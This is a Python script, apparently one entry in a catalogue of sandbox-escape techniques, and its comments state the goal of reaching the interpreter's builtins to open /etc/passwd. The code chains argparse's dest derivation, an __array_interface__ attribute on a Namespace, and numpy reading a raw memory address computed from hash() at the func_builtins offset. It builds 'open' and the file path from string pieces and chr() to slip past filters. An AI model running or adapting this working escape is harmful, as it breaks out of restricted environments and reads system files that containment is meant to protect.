# source: argparse docs (parents=, prefix_chars); CPython PyFunctionObject layout (func_builtins at +24); _Py_HashPointer
# family: argparse dest derivation in a parent parser shared through parents= -> __array_interface__ on the Namespace -> numpy object array at an address from hash()
# goal: builtins of the script -> open() of /etc/passwd
import argparse
import numpy as np
def f():
    return 1
h = hash(f) % (2 ** 64)
addr = ((h << 4) | (h >> 60)) % (2 ** 64)
spec = {"data": (addr + 24, False), "shape": (1,), "typestr": "|O", "version": 3}
base = argparse.ArgumentParser(add_help=False, prefix_chars="+")
base.add_argument("+--array-interface--", "+a", action="store_const", const=spec, default=None)
p = argparse.ArgumentParser(parents=[base], prefix_chars="+")
ns = p.parse_args(["+a"])
bi = np.asarray(ns)[0]
print(bi["op" + "en"](chr(47) + "etc" + chr(47) + "passwd").read()[:120])
